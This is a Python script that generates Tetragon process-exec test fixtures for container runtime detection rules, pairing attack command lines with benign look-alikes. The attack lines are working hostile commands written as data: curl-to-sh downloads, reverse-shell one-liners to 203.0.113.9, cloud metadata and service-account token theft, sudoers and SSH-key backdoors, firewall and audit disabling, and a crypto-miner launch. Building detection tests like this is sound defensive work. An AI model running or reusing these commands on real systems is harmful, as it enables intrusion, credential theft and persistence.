#!/usr/bin/env python3
"""Writes the fixtures of the command-line runtime rules (SuspiciousCommand family,
SuspiciousTool, CryptoMinerExecuted, ReverseShell, SuspiciousShellCreated,
ElevationToRoot): Tetragon `process_exec` events for each attack and for its benign
look-alikes. Execs that only give a later event its lineage carry a `--setup` argument (peregrine_rules_sdk::testing::SETUP_MARK).

Run from the repository root: python3 scripts/runtime_command_fixtures.py
"""
from runtime_events import POD, write
import shlex

SHELL = "Z2tlLW5vZGUtMTpzaGVsbA=="


def exec_line(n, line, parent=SHELL, uid=0, pod=True, properties=None, exec_id=None, credentials=None):
    words = shlex.split(line)
    binary, rest = words[0], line[len(line.split(" ", 1)[0]):].strip()
    process = {"exec_id": exec_id or f"Z2tlLW5vZGUtMTpj{n:04d}", "pid": 6000 + n, "uid": uid, "cwd": "/app",
               "binary": binary, "arguments": rest, "flags": "execve clone",
               "start_time": "2026-11-30T09:59:00.000Z", "parent_exec_id": parent}
    if pod:
        process["pod"] = POD
    if properties:
        process["binary_properties"] = properties
    if credentials:
        # --enable-process-cred: the real and effective ids after the exec.
        process["process_credentials"] = credentials
    return {"process_exec": {"process": process}, "node_name": "gke-node-1",
            "time": f"2026-11-30T10:04:{n % 60:02d}.000000000Z"}


def ancestor(n, line, pod=True):
    """An exec that gives the next events their lineage."""
    return exec_line(n, line + " --setup", parent="Z2tlLW5vZGUtMTppbml0", pod=pod)


def lines(start, commands, **kw):
    return [exec_line(start + i, c, **kw) for i, c in enumerate(commands)]


def under(n, parent_line, commands, pod=True):
    parent = ancestor(n, parent_line, pod=pod)
    pid = parent["process_exec"]["process"]["exec_id"]
    return [parent] + [exec_line(n + 1 + i, c, parent=pid, pod=pod) for i, c in enumerate(commands)]


def main():
    write("execution-runtime-suspicious-command",
          lines(0, ['/bin/sh -c "curl -s http://203.0.113.9/i.sh | sh"',
                    '/bin/bash -c "wget -O /tmp/x http://203.0.113.9/x && chmod +x /tmp/x && /tmp/x"',
                    '/bin/sh -c "echo ZWNobyBoaQ== | base64 -d | bash"']),
          lines(10, ['/bin/sh -c "curl -sf http://localhost:8080/healthz"',
                     '/bin/sh -c "curl -o /tmp/data.json https://api.example.com/data"',
                     '/usr/bin/curl -s http://203.0.113.9/i.sh'])
          + under(20, "/usr/bin/dpkg --configure -a", ['/bin/sh -c "wget -O /tmp/x https://deb.example/x && chmod +x /tmp/x"']))

    write("defense-evasion-runtime-suspicious-command",
          lines(0, ["/usr/sbin/iptables -F", "/usr/bin/systemctl stop firewalld", "/usr/bin/crontab -r",
                    "/usr/bin/systemctl stop auditd", '/bin/sh -c "LD_PRELOAD=/tmp/hook.so /usr/bin/id"',
                    '/bin/bash -c "history -c"']),
          lines(10, ["/usr/sbin/iptables -L -n", "/usr/bin/systemctl status auditd", "/usr/bin/crontab -l",
                     '/bin/sh -c "echo $LD_LIBRARY_PATH"'])
          + under(20, "/usr/local/bin/kube-proxy --v=2", ["/usr/sbin/iptables -F KUBE-SERVICES"], pod=False))

    write("discovery-runtime-suspicious-command",
          lines(0, ["/usr/bin/curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                    '/usr/bin/curl -k -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api',
                    "/usr/local/bin/kubectl auth can-i --list", "/usr/bin/find / -perm -4000 -type f",
                    "/usr/sbin/capsh --print"]),
          lines(10, ["/usr/bin/curl https://api.example.com/v1/status", "/usr/local/bin/kubectl get pods",
                     '/usr/bin/find /app -name "*.log" -mtime +7']))

    write("persistence-runtime-suspicious-command",
          lines(0, ["/usr/bin/crontab /tmp/job", "/usr/sbin/useradd -o -u 0 backup",
                    "/usr/bin/systemctl enable backdoor.service",
                    '/bin/sh -c "echo ssh-rsa AAAAB3NzaC1yc2E >> /root/.ssh/authorized_keys"',
                    "/usr/bin/chattr +i /etc/cron.d/job"]),
          lines(10, ["/usr/bin/crontab -l", "/usr/bin/systemctl daemon-reload", "/usr/bin/systemctl status nginx",
                     '/bin/sh -c "cat /root/.ssh/authorized_keys"'])
          + under(20, "/usr/bin/dpkg -i app.deb", ["/usr/sbin/useradd -r app", "/usr/bin/systemctl enable app.service"]))

    write("privilege-escalation-runtime-suspicious-command",
          lines(0, ["/bin/chmod u+s /bin/bash", "/usr/sbin/setcap cap_setuid+ep /usr/bin/python3",
                    '/bin/sh -c "echo app ALL=(ALL) NOPASSWD:ALL >> /etc/sudoers"',
                    "/usr/bin/nsenter -t 1 -m -u -i -n -p -- bash"]),
          lines(10, ["/bin/chmod 755 /app/run.sh", "/bin/chmod g+s /srv/shared", "/usr/sbin/getcap /usr/bin/ping",
                     '/bin/sh -c "cat /etc/sudoers"'])
          + under(20, "/usr/bin/dpkg -i tool.deb", ["/bin/chmod u+s /usr/bin/tool"]))

    write("execution-runtime-suspicious-tool",
          lines(0, ["/usr/bin/nmap -sS 10.0.0.0/24", "/bin/sh /tmp/linpeas.sh -a", "/usr/bin/nc -zv 10.96.0.1 443",
                    "/tmp/peirates"]),
          lines(10, ["/bin/nc -z localhost 8080", "/usr/bin/curl -s https://example.org/", "/usr/bin/python3 app.py",
                     "/bin/sh -c \"echo nmap is not installed\""]))

    write("impact-runtime-crypto-miner-executed",
          lines(0, ["/tmp/xmrig -o pool.example.net:3333 -u 4AdUndXHHZ",
                    "/tmp/.x/systemd-update -o stratum+tcp://xmr.pool.example.net:3333 -u 4AdUndXHHZ --donate-level 1"]),
          lines(10, ["/bin/grep stratum+tcp:// /etc/miner.conf", "/usr/bin/vim xmrig.json",
                     "/usr/bin/python3 -m pip install stratum-client"]))

    write("execution-runtime-reverse-shell",
          lines(0, ['/bin/bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"',
                    "/usr/bin/nc -e /bin/sh 203.0.113.9 4444",
                    "/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
                    '/bin/sh -c "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f"']),
          lines(10, ['/bin/bash -c "cat < /dev/tcp/127.0.0.1/80"', "/usr/bin/nc -zv 10.0.0.1 80",
                     "/usr/bin/python3 -m http.server", "/usr/bin/socat TCP-LISTEN:8080,fork TCP:backend:80"]))

    write("execution-runtime-suspicious-shell-created",
          under(0, "/usr/sbin/nginx -g daemon off;", ["/bin/sh -i"])
          + under(5, "/usr/bin/java -jar app.jar", ["/bin/bash"]),
          under(10, "/usr/bin/java -jar app.jar", ['/bin/sh -c "ls /tmp"'])
          + under(15, "/usr/sbin/sshd -D", ["/bin/bash -i"])
          + under(20, "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io", ["/bin/bash -i"]))

    setuid = {"setuid": 0, "privileges_changed": ["PRIVILEGES_RAISED_EXEC_FILE_SETUID"]}
    user = {"uid": 1000, "gid": 1000, "euid": 0, "egid": 1000, "suid": 0, "sgid": 1000, "fsuid": 0, "fsgid": 1000}
    root = dict(user, uid=0, gid=0, egid=0, sgid=0, fsgid=0)
    write("privilege-escalation-runtime-elevation-to-root",
          [exec_line(0, "/tmp/rootshell -p", uid=0, properties=setuid, credentials=user),
           exec_line(1, "/usr/bin/pkexec /bin/sh", uid=0, properties=setuid, credentials=user)],
          [exec_line(10, "/usr/bin/sudo -n true", uid=0, properties=setuid, credentials=user),
           exec_line(11, "/usr/bin/passwd", uid=0, properties=setuid, credentials=user),
           exec_line(12, "/tmp/rootshell -p", uid=0, properties=setuid, credentials=root),
           exec_line(13, "/usr/bin/id", uid=1000, credentials=dict(user, euid=1000, suid=1000, fsuid=1000))])


if __name__ == "__main__":
    main()
